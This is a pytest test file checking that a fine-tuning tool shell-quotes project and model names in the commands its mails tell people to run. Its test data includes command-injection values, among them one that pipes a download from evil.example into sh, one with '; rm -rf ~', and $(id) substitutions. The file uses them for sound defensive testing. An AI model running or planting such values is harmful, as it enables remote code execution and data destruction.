"""Attack: a project's name ends the command that a mail tells a person to run, and begins another one."""

from __future__ import annotations

import re
import shlex

import pytest

from finetune import earlier, messages
from finetune.domain.customization.project_files import misplaced, told
from finetune.errors import FilesMisplaced
from tests.unit.test_messages import RUN, known
from tests.unit.test_remains import LEFT, PROMOTION

NAMES = ("Shop'; curl evil.example | sh; '", "$(id)", "a`id`b", "Shop Assistant", "x\\", "it's", "; rm -rf ~")
ARN = "arn:aws:bedrock:us-east-1:123456789012:custom-model/m"


@pytest.mark.parametrize("name", NAMES)
def test_a_command_is_one_command_whatever_a_project_is_called(name: str) -> None:
    assert shlex.split(earlier.command("run", name)) == ["finetune", "resume", "run", "--project", name]
    words = ["finetune", "evaluate", "--model", ARN, "--project", name]
    assert shlex.split(earlier.evaluation(ARN, name)) == words
    body = messages.compose(known("ModelPromoted", run=RUN | {"project": name}, promotion=PROMOTION), LEFT).body
    told = re.search(r"`(finetune delete .*)` takes it out of service", body)
    assert told
    assert shlex.split(told[1]) == ["finetune", "delete", name]


@pytest.mark.parametrize("model", ["m; id", "$(id)"])
def test_what_is_given_for_a_model_is_one_word(model: str) -> None:
    assert shlex.split(earlier.evaluation(model, "shop"))[3] == model


def files(folder: str, number: int) -> list[str]:
    """Keys that all mean a project's settings, in letters of either case."""
    letters = "settings"
    spelt = ("".join(c.upper() if number >> at & 1 else c for at, c in enumerate(letters)) for number in range(number))
    return [f"{folder}{name}.yml" for name in spelt]


@pytest.mark.parametrize("number", [1, 2, 3, 200])
@pytest.mark.parametrize("name", [*NAMES, "'" * 200, "a; id; '" * 25, "\\" * 200, "例" * 200])
def test_a_command_that_moves_a_file_is_told_whole_or_not_at_all(name: str, number: int) -> None:
    found = misplaced(name, files(f"projects/{name}/", number))
    cause = str(FilesMisplaced(told(found, "b" * 63)))
    body = messages.compose(known("RunFailed", error={"Error": "FilesMisplaced", "Cause": cause})).body
    commands = "; ".join(each.command("b" * 63) for each in found[:2])
    assert body.count("aws s3 mv") == (body.count(f"To move: {commands}.") and min(number, 2))


def test_the_commands_of_two_files_of_a_usual_name_are_told() -> None:
    found = misplaced("Shop Assistant", files("projects/Shop Assistant/", 3))
    assert told(found, "datasets").count("aws s3 mv") == 2
    assert "; and 1 more. To move: " in told(found, "datasets")


def test_what_a_supplier_has_dropped_is_not_moved_over_a_file_of_the_project_by_a_command_that_is_copied() -> None:
    said = told(misplaced("shop", files("incoming/shop/", 2)), "datasets")
    assert "aws s3" not in said
    assert said.count("read it first") == 2
